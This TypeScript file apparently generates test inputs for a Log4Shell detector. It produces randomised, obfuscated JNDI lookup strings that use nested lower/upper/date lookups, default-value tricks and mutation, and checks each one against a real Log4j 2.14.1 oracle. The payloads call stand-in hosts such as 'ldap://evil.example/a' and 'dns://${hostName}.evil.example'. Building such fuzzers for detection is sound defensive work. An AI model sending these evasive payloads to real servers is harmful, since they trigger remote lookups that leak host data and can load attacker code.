import { spawnSync } from 'child_process';
import { existsSync, mkdirSync } from 'fs';
import { join } from 'path';
import { numbersFrom, Random } from './random';
import { UserError } from '../scripts/python-environment';

const ORACLE = join(__dirname, 'log4j-oracle');
const JARS = join(__dirname, '..', '.cache', 'log4j-oracle');

/** Whether Log4j 2.14.1 itself looks each of the messages up in JNDI. */
export function log4jVerdicts(messages: readonly string[]): boolean[] {
  if (!existsSync(join(JARS, 'log4j-core-2.14.1.jar'))) {
    mkdirSync(JARS, { recursive: true });
    run('mvn', ['--batch-mode', '--quiet', `--file=${ORACLE}`, 'dependency:copy-dependencies', `-DoutputDirectory=${JARS}`]);
  }
  const lines = messages.map((message) => `${Buffer.from(message).toString('base64')}\n`).join('');
  const output = run('java', ['-Dlog4j2.StatusLogger.level=OFF', '-cp', join(JARS, '*'), join(ORACLE, 'Oracle.java')], lines);
  const verdicts = output.trim().split(/\r?\n/);
  if (verdicts.length !== messages.length) {
    throw new Error(`Log4j judged ${verdicts.length} of ${messages.length} messages`);
  }
  return verdicts.map((verdict) => verdict === '1');
}

function run(program: string, args: string[], input?: string): string {
  const { status, stdout, stderr, error } = spawnSync(program, args, { encoding: 'utf8', input, maxBuffer: 64 * 1024 * 1024 });
  if (error) {
    throw new UserError(`${program} could not be started: install a JDK of version 17 or newer, and Maven`);
  }
  if (status !== 0) {
    throw new Error(`${program} failed: ${stderr}`);
  }
  return stdout;
}

/** Lookups that are most likely not set, and some that are. */
const UNSET = [
  'env:NOT_SET', 'sys:not.set', 'ctx:none', 'main:9', 'map:a', 'sd:a', 'marker:a', 'bundle:a:b', 'web:a', 'k8s:a', 'docker:a', 'spring:a',
  'foo:bar',
  'jvmrunargs:x', '', ':', '::', 'x', 'a:b:c',
];
const SET = [
  'env:PATH', 'sys:java.version', 'java:os', 'event:Level', 'log4j:configLocation', 'sys:path.separator', 'ctx:letter', 'main:0',
  'date:yyyy', 'hostName',
];
const EMPTY = ['${lower:}', '${upper:}', '${date:}', '${::-}', '${env:NOT_SET:-}', '${a:-}', '${lower::-b}'];

/** Texts that stand for `text` when Log4j has resolved them, wrapped in one another to a depth. */
function disguise(random: Random, text: string, depth: number): string {
  if (depth === 0 || random.chance(0.25)) {
    return random.chance(0.3) ? [...text].map((letter) => random.chance(0.5) ? letter.toUpperCase() : letter).join('') : text;
  }
  if (text.length > 1 && random.chance(0.7)) {
    const at = 1 + random.below(text.length - 1);
    const between = random.chance(0.15) ? random.pick(EMPTY) : '';
    return disguise(random, text.slice(0, at), depth) + between + disguise(random, text.slice(at), depth);
  }
  const inner = () => disguise(random, text, depth - 1);
  const unset = () => random.pick(UNSET);
  const known: Record<string, readonly string[]> = {
    ':': ['${sys:path.separator}', '${lower::}', '${date::}', '${upper::}', '${lower::}', '${date:\':\'}'],
    'j': ['${ctx:letter}'],
    'n': ['${main:0}'],
    'di': ['${main:1}'],
    'i': ['${upper:ı}'],
    'jndi:': ['${lower:jndi:}', '${lower:jndi}${lower::}', '${date:\'jndi\':}', '${::-jndi:}'],
  };
  return random.pick([
    () => `\${lower:${inner()}}`,
    () => `\${${random.pick(['upper', 'UPPER', 'Upper'])}:${inner()}}`,
    () => `\${date:'${inner()}'}`,
    () => `\${${unset()}:-${inner()}}`,
    () => `\${${unset()}:-${inner()}}`,
    () => `\${${disguise(random, random.pick(['lower', 'upper']), depth - 1)}:${inner()}}`,
    () => `\${lower${random.pick(['${lower::}', '${::-:}', '${sys:path.separator}'])}${inner()}}`,
    () => `\${lower:\\-${inner()}:-${random.pick(['', 'x', 'b:c'])}}`,
    () => `\${lower:${inner()}:-${random.pick(['', 'x', 'b:c'])}}`,
    () => `\${${random.pick(SET)}:-${inner()}}`,
    () => known[text] ? random.pick(known[text]) : inner(),
  ])();
}

/** A message that may look something up, by one of the ways that Log4j has. */
function attempt(random: Random): string {
  const depth = 1 + random.below(4);
  const name = disguise(random, 'jndi:', depth);
  const target = random.pick([
    'ldap://evil.example/a', '${lower:l}dap://evil.example/a', 'dns://${hostName}.evil.example', 'rmi://127.0.0.1#evil.example:1389/', 'a',
  ]);
  const lookup = `\${${name}${target}}`;
  return random.pick([
    () => lookup,
    () => lookup,
    () => lookup,
    () => `${random.pick(['Mozilla/5.0 ', '', 'a=b; c=', '"', '{'])}${lookup}${random.pick(['', '}', ' ', '"}'])}`,
    () => `\${${random.pick(UNSET)}:-${lookup}}`,
    () => `\${lower:${lookup}}`,
    () => `\${lower:abc}$${lookup}`,
    () => `\${lower:abc}$$${lookup}`,
    () => `\${${random.pick(UNSET)}:-$${lookup}}`,
    () => `\${lower:abc$}{${name}${target}}`,
    () => `\${${random.pick(UNSET)}:-abc$}{${name}${target}}`,
    () => `\${lower:abc$}\${lower:{}${name}${target}}`,
    () => `\${${random.pick(UNSET)}:-abc$}\${${random.pick(UNSET)}:-{jndi:${target}}}`,
    () => `\${${name.slice(0, random.below(name.length))}${target}}`,
    () => '${${ctx:scheme}//evil.example}',
  ])();
}

const TOKENS = [
  '${', '}', ':', ':-', ':\\-', '$', '{', '-', 'j', 'n', 'd', 'i', 'jndi', 'jndi:', 'lower', 'upper:', 'lower:',
  "date:'", "'", 'env:NOT_SET', 'ctx:letter',
  'ldap://x', ' ', '::-', 'ı', '%7d', '\\',
];

/** A message whose parts are dropped, doubled, swapped or replaced at random. */
function mutate(random: Random, message: string): string {
  const parts = message.match(/\$\{|:-|:\\-|[a-z]+:|[^]/gi) ?? [];
  for (let changes = 1 + random.below(3); changes > 0; changes--) {
    const at = random.below(parts.length);
    random.pick([
      () => parts.splice(at, 1),
      () => parts.splice(at, 0, parts[at] ?? ''),
      () => parts.splice(at, 0, random.pick(TOKENS)),
      () => parts.splice(at, 1, random.pick(TOKENS)),
    ])();
  }
  return parts.join('');
}

/** As many messages of Log4j's lookups, most of which fire. The same seed gives the same. */
export function log4jMessages(count: number, seed: number): string[] {
  const random = numbersFrom(seed);
  return Array.from({ length: count }, () => {
    const message = attempt(random);
    if (random.chance(0.03)) {
      return Array.from({ length: 12 }, () => random.pick(TOKENS)).join('');
    }
    return random.chance(0.35) ? mutate(random, message) : message;
  });
}
